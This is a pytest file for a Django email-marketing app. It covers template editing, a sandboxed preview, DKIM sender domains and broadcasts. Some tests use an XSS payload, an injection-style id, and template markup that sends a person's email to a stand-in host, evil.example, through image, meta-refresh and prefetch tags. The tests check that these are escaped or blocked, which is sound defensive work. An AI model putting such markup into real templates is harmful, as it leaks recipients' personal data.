"""Template pages: make, fix and preview a template in the browser's terms — forms,
clear messages, and a preview document that can run nothing."""

from __future__ import annotations

import pytest

from enclave.core import headers
from enclave.messaging import actions, dkim
from enclave.messaging.models import DkimKey, EmailTemplate
from tests.people.world import MASKED, PERSON

SOURCE = "<p>Hello {{ person.first_name }} ({{ person.email }})</p>"


def template(world, source=SOURCE):
    return actions.do_create_template(world.account, "Welcome", "html",
                                      "Hi {{ person.first_name }}", source,
                                      actor=world.actor("owner"))


@pytest.mark.django_db
class TestCreateAndEdit:
    def test_the_new_page_offers_a_starter_mjml_template(self, world):
        text = world.client("user").get("/app/templates/new/").content.decode()
        assert "&lt;mjml&gt;" in text
        assert "unsubscribe_url" in text

    def test_creating_redirects_to_the_template(self, world):
        response = world.client("user").post("/app/templates/new/", {
            "name": "Welcome", "kind": "html", "subject": "Hi", "source": SOURCE})
        created = EmailTemplate.objects.get()
        assert (response.status_code, response["Location"]) == (
            302, f"/app/templates/{created.pk}/")

    def test_a_broken_template_is_shown_again_with_the_message_for_its_field(self, world):
        response = world.client("user").post("/app/templates/new/", {
            "name": "Welcome", "kind": "html", "subject": "Hi",
            "source": "<p>{{ person.password }}</p>"})
        text = response.content.decode()
        assert response.status_code == 422
        assert "Source: Unknown merge field person.password" in text
        assert "{{ person.password }}" in text  # what was typed is kept for fixing
        assert not EmailTemplate.objects.exists()

    def test_an_analyst_sees_the_source_but_no_form(self, world):
        saved = template(world)
        text = world.client("analyst").get(f"/app/templates/{saved.pk}/").content.decode()
        assert "Hello {{ person.first_name }}" in text
        assert "<textarea" not in text

    def test_delete_removes_the_template(self, world):
        saved = template(world)
        response = world.client("user").post(f"/app/templates/{saved.pk}/delete/")
        assert (response.status_code, EmailTemplate.objects.exists()) == (302, False)


@pytest.mark.django_db
class TestPreview:
    def test_preview_shows_subject_and_text_for_the_chosen_person(self, world):
        saved = template(world)
        text = world.client("user").get(
            f"/app/templates/{saved.pk}/preview/?person={world.person.pk}").content.decode()
        assert f"Hi {PERSON['first_name']}" in text
        assert f"Hello {PERSON['first_name']} ({PERSON['email']})" in text

    def test_an_analyst_previews_masked_values(self, world):
        saved = template(world)
        text = world.client("analyst").get(
            f"/app/templates/{saved.pk}/preview/?person={world.person.pk}").content.decode()
        assert f"({MASKED['email']})" in text
        assert PERSON["email"] not in text

    def test_a_person_id_that_is_not_a_number_falls_back_to_the_sample(self, world):
        saved = template(world)
        response = world.client("user").get(
            f"/app/templates/{saved.pk}/preview/?person=1%20OR%201")
        text = response.content.decode()
        assert response.status_code == 200
        assert "A person id is a number" in text
        assert "Hello Ada" in text

    def test_the_html_part_is_a_sandboxed_document(self, world):
        saved = template(world)
        response = world.client("user").get(f"/app/templates/{saved.pk}/preview/html")
        assert response["Content-Security-Policy"] == headers.SANDBOXED_DOCUMENT_CSP
        assert response["Content-Security-Policy"].startswith("sandbox;")
        assert "script-src" not in response["Content-Security-Policy"]
        assert response["X-Frame-Options"] == "DENY"
        assert "<p>Hello Ada (ada@example.com)</p>" in response.content.decode()

    def test_a_persons_markup_is_escaped_in_the_html_part(self, world):
        world.person.first_name = "<img src=x onerror=alert(1)>"
        world.person.save()
        saved = template(world)
        body = world.client("user").get(
            f"/app/templates/{saved.pk}/preview/html?person={world.person.pk}").content.decode()
        assert "<img src=x" not in body
        assert "&lt;img src=x" in body


@pytest.mark.django_db
class TestSenderPages:
    def test_adding_a_domain_shows_its_records_to_publish(self, world):
        client = world.client("user")
        response = client.post("/app/senders/", {"domain": "news.acme.example"})
        text = client.get(response["Location"]).content.decode()
        key = DkimKey.objects.get()
        assert f"{key.selector}._domainkey.news.acme.example" in text
        assert f"p={key.public_key}" in text
        assert "PRIVATE KEY" not in text

    def test_a_bad_domain_is_shown_again_with_the_reason(self, world):
        response = world.client("user").post("/app/senders/", {"domain": "10.1.2.3"})
        assert response.status_code == 422
        assert "not an address" in response.content.decode()

    def test_checking_with_the_record_published_shows_verified(self, world, local_dns):
        client = world.client("user")
        url = client.post("/app/senders/", {"domain": "news.acme.example"})["Location"]
        key = DkimKey.objects.get()
        local_dns.publish(dkim.record_name(key.selector, "news.acme.example"),
                          dkim.txt_value(key.public_key))
        client.post(url + "check/")
        assert '<strong id="sender-state">verified</strong>' in client.get(url).content.decode()

    def test_checking_without_dns_explains_the_unknown_state(self, world, no_dns):
        client = world.client("user")
        url = client.post("/app/senders/", {"domain": "news.acme.example"})["Location"]
        client.post(url + "check/")
        text = client.get(url).content.decode()
        assert '<strong id="sender-state">unknown</strong>' in text
        assert "DNS could not be asked from this server" in text

    def test_a_refused_rotation_is_explained_on_the_page(self, world):
        client = world.client("user")
        url = client.post("/app/senders/", {"domain": "news.acme.example"})["Location"]
        response = client.post(url + "rotate/")
        assert response.status_code == 409
        assert "already waiting for its DNS record" in response.content.decode()

    def test_an_analyst_sees_the_records_but_no_buttons(self, world):
        url = world.client("user").post("/app/senders/",
                                        {"domain": "news.acme.example"})["Location"]
        text = world.client("analyst").get(url).content.decode()
        assert "_domainkey.news.acme.example" in text
        assert "Check DNS now" not in text


@pytest.mark.django_db
class TestPreviewLeaks:
    def test_the_preview_document_loads_nothing_from_elsewhere(self, world):
        saved = template(world, source=(
            '<html><head><link rel="dns-prefetch" href="//{{ person.first_name }}.evil.example">'
            '<meta http-equiv="refresh" content="0;url=https://evil.example/?{{ person.email }}">'
            '<base href="https://evil.example/"></head>'
            '<body><img src="https://evil.example/p?e={{ person.email | url_encode }}">'
            "</body></html>"))
        response = world.client("user").get(
            f"/app/templates/{saved.pk}/preview/html?person={world.person.pk}")
        body = response.content.decode()
        assert "<link" not in body
        assert "<meta" not in body
        assert "<base" not in body
        csp = response["Content-Security-Policy"]
        assert "img-src data:;" in csp
        assert "https:" not in csp
        assert response["X-DNS-Prefetch-Control"] == "off"

    def test_without_people_read_a_preview_does_not_tell_which_ids_exist(self, world):
        saved = template(world)
        client = world.client("viewer")
        base = f"/app/templates/{saved.pk}/preview/?person="
        own = client.get(base + str(world.person.pk))
        other = client.get(base + str(world.other_person.pk))
        missing = client.get(base + "999999")
        assert own.status_code == other.status_code == missing.status_code == 200

        def shown(response):
            return response.content.decode().split('id="preview-text">')[1].split("</pre>")[0]

        assert shown(own) == shown(other) == shown(missing) == "Hello ()\n"


@pytest.mark.django_db
class TestBroadcastPages:
    @pytest.fixture
    def setup(self, world, local_dns):
        from tests.messaging.test_broadcasts import Setup

        return Setup(world, local_dns)

    def form(self, setup, **changes):
        return {"name": "June news", "template": setup.template.pk,
                "sender": setup.sender.pk, "from_local": "news",
                "topics": [setup.topic.pk], **changes}

    def test_draft_send_and_see_the_progress(self, setup, world):
        from enclave.messaging import tasks

        setup.person("ann@example.net")
        client = world.client("user")
        url = client.post("/app/broadcasts/", self.form(setup))["Location"]
        assert client.post(url + "send/").status_code == 302
        tasks.send_outbox()
        text = client.get(url).content.decode()
        assert '<strong id="broadcast-state">sent</strong>' in text
        assert '<td id="progress-sent">1</td>' in text

    def test_tracking_is_chosen_on_the_draft_form_and_off_unless_chosen(self, setup,
                                                                        world):
        from enclave.messaging.models import Broadcast

        client = world.client("user")
        client.post("/app/broadcasts/", self.form(setup, name="Plain"))
        client.post("/app/broadcasts/", self.form(setup, name="Tracked", track_opens="on",
                                                  track_clicks="on"))
        assert dict(Broadcast.objects.values_list("name", "track_opens")) == {
            "Plain": False, "Tracked": True}
        assert list(Broadcast.objects.filter(track_clicks=True)
                    .values_list("name", flat=True)) == ["Tracked"]

    def test_a_draft_without_a_topic_is_explained(self, setup, world):
        response = world.client("user").post("/app/broadcasts/",
                                             self.form(setup, topics=[]))
        assert response.status_code == 422
        assert "Choose at least one topic" in response.content.decode()

    def test_sending_from_an_unverified_domain_is_explained(self, setup, world):
        other = actions.do_add_sender_domain(world.account, "other.acme.example",
                                             actor=world.actor("owner"))
        client = world.client("user")
        url = client.post("/app/broadcasts/", self.form(setup, sender=other.pk))["Location"]
        response = client.post(url + "send/")
        assert response.status_code == 409
        assert "not verified" in response.content.decode()

    def test_an_analyst_sees_broadcasts_but_cannot_draft_or_send(self, setup, world):
        url = world.client("user").post("/app/broadcasts/", self.form(setup))["Location"]
        client = world.client("analyst")
        assert "Draft a broadcast" not in client.get("/app/broadcasts/").content.decode()
        assert "Send now" not in client.get(url).content.decode()
